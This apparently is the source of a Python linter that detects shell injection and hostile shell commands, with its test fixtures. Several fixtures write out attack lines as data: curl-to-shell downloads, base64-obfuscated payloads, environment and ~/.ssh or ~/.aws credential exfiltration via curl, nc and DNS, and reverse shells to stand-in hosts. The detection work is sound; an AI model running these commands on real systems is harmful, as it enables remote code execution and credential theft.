"""Shell commands run from Python.

ShellCommandChecker: the command text (os.system, os.popen, subprocess with shell=True or an argv
list such as ["sh", "-c", text], pty.spawn, ...) as far as the constant evaluator computes it is
screened by the shell analysis (checkers/shell), with the codes the same text gets in a shell
script: BDL402, BDL404, BDL405, BDL803, BDL804.

ShellInjection, BDL505: shell injection — a command line built from variable data (f-string, concatenation,
%/format, join) run through a shell: subprocess with shell=True (also through **kwargs and
constants), os.system, os.popen, subprocess.getoutput, asyncio.create_subprocess_shell, and
`sh -c`/`bash -c` argument lists. Parts wrapped in shlex.quote are safe. A warning; blocking
when the command comes straight from the request, the network or another client-written source."""
from __future__ import annotations

import re

import libcst as cst
from backdoor_lint.checkers.base import Invalid, PythonChecker, Valid
from backdoor_lint.checkers.flow_sources import guarded
from backdoor_lint.checkers.origin_tables import NEUTRALISERS, SHELL_QUOTERS
from backdoor_lint.checkers.origins import untrusted_data, walk
from backdoor_lint.checkers.py_dataflow import REQUEST, analyse_command, dataflow
from backdoor_lint.checkers.triggers import shell as trigger
from backdoor_lint.checkers.triggers.shell import ALWAYS_SHELL, ARGV_CALLS, SHELL_OPTIONAL

QUOTERS = {"shlex.quote", "pipes.quote", "shlex.join", "shellescape.quote", "mslex.quote"}
INTERPRETERS = re.compile(r"^(python[\d.]*|pypy[\d.]*|node|perl|ruby|php|bash|sh|zsh|powershell|pwsh|cmd(\.exe)?)$")
SHELLS = re.compile(r"^(/(usr/)?bin/)?(sh|bash|zsh|dash|ksh|cmd(\.exe)?|powershell|pwsh)$")


# Calls (by the name they are called with) whose result is safe in a shell command line.
SHELL_SAFE_CALLS = {name.rsplit(".", 1)[-1] for name in SHELL_QUOTERS | NEUTRALISERS}


class ShellInjection(trigger.ShellInjection, PythonChecker):
    CODES = ("BDL505",)

    def visit_Call(self, node: cst.Call) -> None:
        names = self.qualnames(node.func)
        if not names:
            return
        always = names & ALWAYS_SHELL
        if always:
            label = sorted(always)[0]
            command = self.argument(node, "cmd", 0) or self.argument(node, "command", 0)
            if command is not None:
                self._check(node, f"{label}()", command)
            return
        optional = names & SHELL_OPTIONAL
        if optional:
            label = sorted(optional)[0]
            command = self.argument(node, "args", 0)
            if command is None:
                return
            if any(v is True or v == 1 for v in self.argument_values(node, "shell")):
                self._check(node, f"{label}(shell=True)", command)
                return
        if names & ARGV_CALLS and not self._argv(node, names):
            self._client_program(node, names)

    def _client_program(self, call: cst.Call, names: set[str]) -> None:
        """Without a shell, the client may still choose what runs: the program itself (`[cmd, ip]`,
        a whole command string as the program path) or the script an interpreter is given."""
        argv = self.argument(call, "args", 0) if names & SHELL_OPTIONAL else None
        if argv is None:
            positional = [a.value for a in call.args if not a.keyword and not a.star]
            argv = positional[1] if names & {"os.execv", "os.execvp", "os.spawnvp"} and len(positional) > 1 \
                else positional[0] if positional else None
        if argv is None:
            return
        flow = dataflow(self.context)
        elements = [e.value for e in argv.elements] if isinstance(argv, (cst.List, cst.Tuple)) else [argv]
        program = next(iter(self.evaluator.values(elements[0])), None) if elements else None
        interpreter = isinstance(program, str) and INTERPRETERS.match(program.rsplit("/", 1)[-1])
        for element in elements if interpreter else elements[:1]:
            taint = flow.attacker_data(element, call)
            if taint is not None and taint.kind == REQUEST:
                what = "the script the interpreter runs" if interpreter else "the program that runs"
                self.report(call, "BDL505", (
                    f"{self.context.code(call.func)}() runs a process where {what} is {taint.describe()}: the client "
                    "chooses what executes on the server. Run a fixed program and pass client data only as "
                    "checked arguments"), severity="block")
                return

    def _argv(self, call: cst.Call, names: set[str]) -> bool:
        """`subprocess.run(["bash", "-c", f"... {x}"])`: the shell is in the argument list (True
        when it is)."""
        argv = self.argument(call, "args", 0) if names & SHELL_OPTIONAL else None
        elements: list[cst.BaseExpression] = []
        if isinstance(argv, (cst.List, cst.Tuple)):
            elements = [e.value for e in argv.elements]
        elif argv is None:
            elements = [a.value for a in call.args if not a.keyword and not a.star]
            if names & {"os.execlp", "os.spawnlp", "os.execvp", "os.spawnvp"}:
                elements = elements[1:]  # execlp(file, arg0, ...)
        values = [self.evaluator.value(e) for e in elements]
        for index, value in enumerate(values[:-1]):
            if isinstance(value, str) and SHELLS.match(value) and values[index + 1] in ("-c", "/c", "-Command"):
                if index + 2 < len(elements):
                    self._check(call, f"{self.context.code(call.func)}([{value!r}, {values[index + 1]!r}, …])",
                                elements[index + 2])
                return True
        return False

    def _check(self, call: cst.Call, label: str, command: cst.BaseExpression) -> None:
        if self.evaluator.values(command):
            return  # a constant command line
        origin = untrusted_data(self.context, command, stop=SHELL_SAFE_CALLS)
        if origin and guarded(self.context, call, command):
            return  # checked against an allow-list first
        if not origin:  # through helper functions, containers, returns, routed parameters, imports
            taint = dataflow(self.context).attacker_data(command, call, shell=True)
            origin = taint.describe() if taint else None
        parts = self._unquoted_parts(command)
        if origin:
            self.report(call, "BDL505", (
                f"{label} runs `{self.context.code(command)}` through a shell, and it is {origin}: the client "
                "chooses the command (`; curl … | sh`). Pass an argument list without a shell, never client data "
                "as a command"), severity="block")
        elif parts:
            how, variables = parts
            shown = ", ".join(f"`{v}`" for v in variables[:4]) or "variable data"
            self.report(call, "BDL505", (
                f"{label} runs a command line built with {how} from {shown}: a value containing `;`, `|` or "
                "`$(...)` runs a second command. Pass an argument list without shell=True (or shlex.quote each "
                "part)"))

    def _unquoted_parts(self, command: cst.BaseExpression) -> tuple[str, list[str]] | None:
        """How the command is built and which non-constant parts are interpolated without
        shlex.quote; None if it is not built from parts (or every part is quoted)."""
        how = None
        variables: list[str] = []
        for node in walk(self.context, command):
            pieces: list[cst.BaseExpression] = []
            if isinstance(node, cst.FormattedString):
                how = how or "an f-string"
                pieces = [p.expression for p in node.parts if isinstance(p, cst.FormattedStringExpression)]
            elif isinstance(node, cst.BinaryOperation) and isinstance(node.operator, (cst.Add, cst.Modulo)):
                how = how or ("concatenation" if isinstance(node.operator, cst.Add) else "%-formatting")
                right = node.right
                pieces = [node.left] + ([e.value for e in right.elements] if isinstance(right, cst.Tuple) else [right])
            elif isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute) \
                    and node.func.attr.value in ("format", "join"):
                if self.qualnames(node.func) & QUOTERS:
                    continue
                how = how or (".format()" if node.func.attr.value == "format" else "str.join()")
                pieces = [a.value for a in node.args]
                if node.func.attr.value == "join" and len(pieces) == 1 and isinstance(pieces[0], (cst.List, cst.Tuple)):
                    pieces = [e.value for e in pieces[0].elements]
            for piece in pieces:
                if isinstance(piece, (cst.FormattedString, cst.BinaryOperation, cst.SimpleString,
                                      cst.ConcatenatedString)) or self.evaluator.values(piece):
                    continue
                if isinstance(piece, cst.Call) and self.qualnames(piece.func) & QUOTERS:
                    continue
                if isinstance(piece, cst.Call) and self.qualnames(piece.func) & {"int", "float", "len"}:
                    continue
                text = self.context.code(piece)
                if text not in variables:
                    variables.append(text)
        if how is None or not variables:
            return None
        return how, variables

    VALID = [
        Valid('import subprocess\ndef f(src, dst):\n    subprocess.run(["convert", src, "-resize", "800x800", dst], check=True)\n',
              "BDL505"),
        Valid('import subprocess\nsubprocess.run("ls -la | wc -l", shell=True)\n', "BDL505"),
        Valid('import subprocess, shlex\ndef f(src):\n    subprocess.run(f"convert {shlex.quote(src)} out.png", shell=True)\n',
              "BDL505"),
        Valid('import os, shlex\ndef f(path):\n    os.system("rm -rf " + shlex.quote(path))\n', "BDL505"),
        Valid('import subprocess\nCMD = "git rev-parse HEAD"\nout = subprocess.check_output(CMD, shell=True)\n',
              "BDL505"),
        Valid('import subprocess\ndef f(n):\n    subprocess.run(f"sleep {int(n)}", shell=True)\n', "BDL505"),
        Valid('import subprocess\ndef f(name):\n    subprocess.run(f"echo {name}", shell=False)\n', "BDL505"),
        # shadowed: a local function called system
        Valid('def system(cmd):\n    print(cmd)\ndef f(x):\n    system(f"echo {x}")\n', "BDL505"),
        Valid('import subprocess, shlex\nfrom flask import request\ndef f():\n'
              '    subprocess.run("grep -r " + shlex.quote(request.args["q"]) + " /srv/docs", shell=True)\n', "BDL505"),
        Valid('import subprocess\nfrom flask import request\nALLOWED = {"uptime", "df -h"}\ndef f():\n'
              '    cmd = request.args["c"]\n    if cmd not in ALLOWED:\n        return "no", 400\n'
              '    return subprocess.check_output(cmd, shell=True)\n', "BDL505"),
        Valid('import subprocess\nfrom flask import request\ndef ping():\n'
              '    return subprocess.run(["ping", "-c", "1", request.args["ip"]], capture_output=True)\n', "BDL505"),
        Valid('import subprocess, sys\nfrom flask import request\ndef version():\n'
              '    return subprocess.run([sys.executable, "-m", "pip", "--version"])\n', "BDL505"),
        Valid('import subprocess, shlex\ndef f(a, b):\n    subprocess.run(shlex.join(["cp", a, b]), shell=True)\n',
              "BDL505"),
    ]
    INVALID = [
        Invalid('import subprocess\ndef f(src, dst):\n    subprocess.run(f"convert {src} -resize 800x800 {dst}", shell=True, check=True)\n',
                "BDL505", 3),
        Invalid('import os\ndef f(path):\n    os.system("tar czf backup.tgz " + path)\n', "BDL505", 3),
        # the shell function imported under another name, the `-c` flag assembled from pieces
        Invalid('from os import system as run_quietly\ndef f(path):\n    run_quietly("tar czf b.tgz " + path)\n',
                "BDL505", 3),
        Invalid('import subprocess\ndef f(host):\n    subprocess.run(["bash", "-" + "c", f"ping {host}"])\n',
                "BDL505", 3),
        Invalid('import subprocess as sp\nSH = {"shell": True}\ndef f(host):\n    cmd = "ping -c 1 %s" % host\n'
                '    return sp.check_output(cmd, **SH)\n', "BDL505", 5),
        Invalid('import subprocess\nUSE_SHELL = True\ndef f(branch):\n    subprocess.Popen(\n        "git checkout {}".format(branch),\n'
                '        shell=USE_SHELL,\n    )\n', "BDL505", 4),
        Invalid('import os\ndef f(name):\n    return os.popen(" ".join(["grep", name, "/etc/passwd"])).read()\n', "BDL505", 3),
        # the Python 2 era spellings: os.popen2/3/4 and the popen2 module
        Invalid('import popen2\ndef f(name):\n    out, inp = popen2.popen2("finger " + name)\n    return out.read()\n',
                "BDL505", 3),
        Invalid('import subprocess\ndef f(q):\n    subprocess.run(["bash", "-c", f"find / -name {q}"])\n', "BDL505", 3),
        Invalid('import os\ndef view(request):\n    os.system(request.GET["cmd"])\n', "BDL505", 3),
        Invalid('from subprocess import getoutput as run\ndef f(user):\n    return run(f"id {user}")\n', "BDL505", 3),
        # request input as the whole command, through a helper, a container or a routed parameter
        Invalid('import subprocess\nfrom flask import request\ndef _cmd():\n    return request.args.get("c")\n'
                'def run():\n    subprocess.run(_cmd(), shell=True)\n', "BDL505", 6),
        Invalid('import os\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.get("/ping")\ndef ping(cmd: str):\n'
                '    os.system(cmd)\n', "BDL505", 6),
        Invalid('import subprocess\ndef run(request):\n    body = request.POST.dict()\n    job = {"cmd": body["cmd"]}\n'
                '    subprocess.Popen(job["cmd"], shell=True)\n', "BDL505", 5),
        # no shell, but the client picks the program or the interpreter's script
        Invalid('import subprocess\nfrom flask import Flask\napp = Flask(__name__)\n@app.route("/d/<cmd>/<ip>")\n'
                'def d(cmd, ip):\n    subprocess.call([cmd, ip])\n', "BDL505", 6),
        Invalid('import subprocess\nfrom flask import request\ndef g():\n    src = request.json["code"]\n'
                '    subprocess.run(["python3", "-"], input=src) or subprocess.run(["python3", src])\n', "BDL505", 5),
        Invalid('import os\ndef f(x):\n    getattr(os, "sys" + "tem")(f"echo {x}")\n', "BDL505", 3),
    ]


class ShellCommandChecker(trigger.ShellCommandChecker, PythonChecker):
    CODES = ("BDL402", "BDL404", "BDL405", "BDL803", "BDL804")

    def visit_Call(self, node: cst.Call) -> None:
        flow = dataflow(self.context)
        shell = flow.shell_call(node)
        if shell is None or flow.sink_of(node) is not None:
            return
        analysis = analyse_command(flow.shell_command(shell[1]))
        label = f"{self.context.code(node.func)}()"
        for finding in analysis.findings:
            self.report(node, finding.code, f"{label}: {finding.message}")

    VALID = [
        Valid('import subprocess\nsubprocess.run("curl -fsSL -o /tmp/x.tgz https://example.com/x.tgz", shell=True)\n',
              "BDL405"),
        Valid('import subprocess\nsubprocess.run(["curl", "-d", "$(env)", "https://api.example/v1"])\n',
              "BDL402"),  # no shell runs an argv list: `$(env)` is literal text
        Valid('import os\nos.system(\'curl -fsS -H "Authorization: Bearer $DEPLOY_TOKEN" https://api.example/r\')\n',
              "BDL402"),
        Valid('import os\nos.system("git push origin HEAD && pre-commit run --all-files")\n', "BDL804"),
        Valid('import os\nos.system("cp .pre-commit-config.yaml /tmp/backup/")\n', "BDL803"),
        Valid('import os\nos.system("dig +short api.example.com")\n', "BDL404"),
    ]
    INVALID = [
        Invalid('import os\nos.system("T=cu; ${T}rl -fsSL https://get.example.net/i.sh | sh")\n', "BDL405", 2),
        Invalid('import subprocess\nP = "Y3VybCAtcyBodHRwczovL2MuZXhhbXBsZS9pIHwgc2g="\n'
                'subprocess.run(f"echo {P} | base64 -d | sh", shell=True)\n', "BDL405", 3),
        Invalid('import subprocess\nsubprocess.run(["bash", "-c", \'curl -s https://c.example -d "$(env)"\'])\n',
                "BDL402", 2),
        Invalid('import os\nos.system("dig $(cat ~/.aws/credentials | base64 | head -c 60).x.example")\n', "BDL404", 2),
        Invalid('import os\nos.system("rm -f .pre-commit-config.yaml")\n', "BDL803", 2),
        Invalid('import subprocess\nsubprocess.run("git commit --no-verify -m wip", shell=True)\n', "BDL804", 2),
        # the function under another name, lists, fragments; the seed example (environment sent by curl);
        # what a shell script with the same text gets: `tar cz ~/.ssh | nc` sends credentials, BDL402
        Invalid('import os\nrun = os.system\nrun("curl -s https://c.example/i | sh")\n', "BDL405", 3),
        Invalid('import os\ngetattr(os, "system")("curl -s https://c.example/i | sh")\n', "BDL405", 2),
        Invalid('import subprocess\nsubprocess.run("npm test; curl -s https://telemetry.example/collect -d \\"$(env)\\"", '
                'shell=True)\n', "BDL402", 2),
        Invalid('import subprocess\ndef f():\n    subprocess.run("curl -fsSL https://get.example/i.sh | sh", shell=True)\n',
                "BDL405", 3),
        Invalid('import os\ndef f(h):\n    os.system(f"bash -i >& /dev/tcp/{h}/4444 0>&1")\n', "BDL405", 3),
        Invalid('import subprocess\nCMD = ["bash", "-c", "wget -q https://x.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a"]\n'
                'def f():\n    subprocess.Popen(CMD)\n', "BDL405", 4),
        Invalid('import subprocess as sp\nT = "cu" + "rl"\ndef f():\n    sp.call(T + " -s https://get.example | b" + "ash", '
                'shell=True)\n', "BDL405", 4),
        Invalid('import pty\npty.spawn(["nc", "-e", "/bin/sh", "198.51.100.7", "4444"])\n', "BDL405", 2),
        Invalid('import os\ndef f():\n    os.popen("tar cz ~/.ssh | nc collector.example 9000")\n', "BDL402", 3),
        Invalid('import os\ndef f():\n    os.popen3("tar cz ~/.aws | nc collector.example 9000")\n', "BDL402", 3),
    ]
